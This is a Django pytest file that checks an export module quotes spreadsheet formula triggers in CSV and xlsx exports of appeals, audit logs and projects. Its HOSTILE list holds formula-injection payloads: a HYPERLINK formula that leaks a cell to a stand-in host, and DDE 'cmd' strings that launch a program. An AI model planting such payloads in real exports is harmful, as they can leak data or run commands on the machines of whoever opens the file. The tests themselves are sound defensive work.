"""The formula-safe export writer (core.exports) and every export built on it: a hostile appeal
title comes back as inert text in the list's CSV and xlsx, the change-history workbook and the
audit exports (issue 13, item 1)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.utils.functional import lazystr
from openpyxl import load_workbook

from tiaodu.cases.models import Case
from tiaodu.cases.tests.factories import qiye_enterprise
from tiaodu.core import exports
from tiaodu.enterprises import services as enterprises

HOSTILE = [
    '=HYPERLINK("http://x?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


# --- neutralise -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [*HOSTILE, "\t=1+1", "\r=1+1", "=", "-", "+86 023-4567", "@x", "-1,,,", "-1,2345"]
)
def test_text_starting_with_a_trigger_gets_a_quote(text: str) -> None:
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "招工困难",
        "",
        " =1+1",
        "a=1",
        "023-45678901",
        "'=already",
        -3.5,
        -12,
        Decimal("-0.5"),
        0,
        None,
        "-3.5",
        "+2",
        "-12%",
        "-1,234.50",
        "-1e5",
        "-.5",
    ],
)
def test_other_values_are_kept(value: Any) -> None:
    result = exports.neutralise(value)
    assert result == value and type(result) is type(value)


def test_lazy_text_is_neutralised_as_text() -> None:
    # lazystr: a lazy string like gettext_lazy's, without putting test text into the catalogue.
    assert exports.neutralise(lazystr("=1+1")) == "'=1+1"
    assert exports.neutralise(lazystr("标题")) == "标题"


def test_csv_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    writer = exports.csv_writer(out, lineterminator="\n")
    writer.writerow(["=1+1", -2, "-2", "ok"])
    writer.writerows([["@x"]])
    assert out.getvalue() == "'=1+1,-2,-2,ok\n'@x\n"


def test_table_workbook_never_writes_formula_cells() -> None:
    content = exports.table_workbook(
        "表/1", ["标题", "金额"], [[HOSTILE[0], -5], ["坏\x01字", Decimal("1.5")]]
    )
    ws = load_workbook(io.BytesIO(content)).active
    title, amount = ws["A2"], ws["B2"]
    assert title.data_type == "s" and title.value == "'" + HOSTILE[0]
    assert amount.data_type == "n" and amount.value == -5
    assert ws["A3"].value == "坏字"  # a character xlsx cannot hold is dropped, not a 500
    assert ws.title == "表1"


# --- the exports ----------------------------------------------------------------------------------


@pytest.fixture
def hostile_cases(users: dict[str, Any]) -> list[Case]:
    """A town user files appeals whose titles would run as formulas."""
    from django.utils import timezone

    owner = qiye_enterprise()
    return [
        enterprises.raise_appeal(users["guxi"], owner, "labour", "内容", timezone.localdate(), title=title)
        for title in HOSTILE
    ]


def assert_all_neutralised(values: list[Any]) -> None:
    for title in HOSTILE:
        assert title not in values, title
        assert "'" + title in values, title


def assert_inert(values: list[Any]) -> None:
    """No text cell would run in a spreadsheet."""
    live = [v for v in values if isinstance(v, str) and exports.neutralise(v) != v]
    assert not live, live


def xlsx_cells(content: bytes, sheet: str | None = None) -> list[Any]:
    wb = load_workbook(io.BytesIO(content))
    ws = wb[sheet] if sheet else wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cell at all
    return [c.value for c in cells]


@pytest.mark.django_db
def test_case_list_csv_and_xlsx(users: dict[str, Any], client_for: Any, hostile_cases: list[Case]) -> None:
    client = client_for(users["leader"])
    response = client.get("/cases/?export=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert_all_neutralised(cells)
    assert_inert(cells)

    response = client.get("/cases/?export=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    values = xlsx_cells(response.content)
    assert_all_neutralised(values)
    assert_inert(values)
    assert all(v.startswith("'") for v in values if isinstance(v, str) and v.lstrip("'") in HOSTILE)


@pytest.mark.django_db
def test_change_history_xlsx(users: dict[str, Any], client_for: Any, hostile_cases: list[Case]) -> None:
    case = hostile_cases[0]
    response = client_for(users["guxi"]).get(f"/cases/{case.pk}/changes/?export=xlsx")
    assert response.status_code == 200
    values = xlsx_cells(response.content, "变更记录")
    assert "'" + HOSTILE[0] in values  # the object's name and the title's new value
    assert HOSTILE[0] not in values


@pytest.mark.django_db
def test_audit_exports(users: dict[str, Any], client_for: Any, hostile_cases: list[Case]) -> None:
    from tiaodu.audit.choices import EventKind
    from tiaodu.audit.services import record_event

    record_event(EventKind.PERMISSION_DENIED, username="@evil", detail=HOSTILE[0])
    client = client_for(users["admin"])
    values = xlsx_cells(client.get("/audit/?model=cases.case&export=xlsx").content)
    assert_all_neutralised(values)

    # The CSV's 对象 and 变更内容 hold the title inside a longer text: nothing starts a formula.
    changes = client.get("/audit/?model=cases.case&export=csv").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(changes)) for c in row]
    assert any(HOSTILE[0] in c for c in cells)
    assert_inert(cells)

    events = client.get("/audit/events/?export=csv").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(events)) for c in row]
    assert "'@evil" in cells and "'" + HOSTILE[0] in cells and "@evil" not in cells
    values = xlsx_cells(client.get("/audit/events/?export=xlsx").content)
    assert "'@evil" in values and "'" + HOSTILE[0] in values


@pytest.mark.django_db
def test_project_exports(users: dict[str, Any], client_for: Any) -> None:
    from tiaodu.projects.tests.factories import project

    project(stage="signed", name=HOSTILE[0], notes=HOSTILE[3])
    client = client_for(users["admin"])
    values = xlsx_cells(client.get("/projects/lists/signed/?export=xlsx").content)
    assert "'" + HOSTILE[0] in values and "'" + HOSTILE[3] in values
    assert_inert(values)
    listed = client.get("/projects/?export=csv").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(listed)) for c in row]
    assert "'" + HOSTILE[0] in cells
    assert_inert(cells)


def test_neutralised_csv_keeps_verbatim_columns_and_the_bom() -> None:
    text = "\ufeff名称,密码\r\n=1+1,-abc\r\n"
    assert exports.neutralised_csv(text, ["密码"]) == "\ufeff名称,密码\r\n'=1+1,-abc\r\n"
    assert exports.neutralised_csv(text) == "\ufeff名称,密码\r\n'=1+1,'-abc\r\n"
